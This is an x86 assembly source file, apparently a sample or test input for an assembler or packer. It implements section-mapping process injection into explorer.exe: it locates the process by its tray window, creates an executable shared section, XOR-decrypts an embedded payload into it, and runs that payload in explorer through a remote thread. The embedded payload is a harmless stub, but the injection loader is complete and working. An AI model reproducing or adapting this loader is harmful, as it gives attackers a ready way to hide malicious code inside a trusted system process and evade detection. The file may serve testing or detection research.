; SPDX-License-Identifier: Apache-2.0
; Injection by a section: mapped here so that it can be written, in explorer.exe so that it can be run there by a
; new thread. The frames are the same; nothing is ever written into the other process.
%import kernel32.dll OpenProcess, WaitForSingleObject, ExitProcess
%import ntdll.dll NtCreateSection, NtMapViewOfSection, NtUnmapViewOfSection, RtlCreateUserThread
%import user32.dll FindWindowA, GetWindowThreadProcessId
%entry start
%payload payload payload_end
%encrypt payload payload_end 0xe4

%section .text rx
start:
  push 0
  push class
  call dword ptr [FindWindowA]
  push process
  push eax
  call dword ptr [GetWindowThreadProcessId]
  push dword ptr [process]
  push 0
  push 0x1fffff                ; PROCESS_ALL_ACCESS
  call dword ptr [OpenProcess]
  mov dword ptr [process], eax
  test eax, eax
  jz failed
  push 0
  push 0x8000000               ; SEC_COMMIT
  push 0x40                    ; PAGE_EXECUTE_READWRITE
  push maximum
  push 0
  push 0xf001f                 ; SECTION_ALL_ACCESS
  push section
  call dword ptr [NtCreateSection]
  test eax, eax
  jnz failed
  push 4                       ; PAGE_READWRITE
  push -1
  call map
  mov edi, dword ptr [base]
  mov esi, payload
decrypt:
  mov al, byte ptr [esi]
  xor al, 0xe4
  mov byte ptr [edi], al
  inc esi
  inc edi
  cmp esi, payload_end
  jb decrypt
  push dword ptr [base]
  push -1
  call dword ptr [NtUnmapViewOfSection]
  test eax, eax
  jnz failed
  push 0x20                    ; PAGE_EXECUTE_READ
  push dword ptr [process]
  call map
  push 0
  push thread
  push 0
  push dword ptr [base]
  push 0
  push 0
  push 0
  push 0
  push 0
  push dword ptr [process]
  call dword ptr [RtlCreateUserThread]
  test eax, eax
  jnz failed
  push -1                      ; INFINITE
  push dword ptr [thread]
  call dword ptr [WaitForSingleObject]
  push 0
  call dword ptr [ExitProcess]
; Maps the section where there is room: (process, protection).
map:
  mov dword ptr [base], 0
  mov dword ptr [size], 0
  push dword ptr [esp + 8]
  push 0
  push 2                       ; ViewUnmap
  push size
  push 0
  push 0
  push 0
  push base
  push dword ptr [esp + 36]
  push dword ptr [section]
  call dword ptr [NtMapViewOfSection]
  test eax, eax
  jnz failed
  ret 8
failed:
  push 1
  call dword ptr [ExitProcess]

%section .data rw
process:
  .long 0
thread:
  .long 0
maximum:
  .long 0x1000, 0
section:
  .long 0
base:
  .long 0
size:
  .long 0
class:
  .asciz "Shell_TrayWnd"
payload:
  xor eax, eax
  ret 4
  %marker
payload_end:
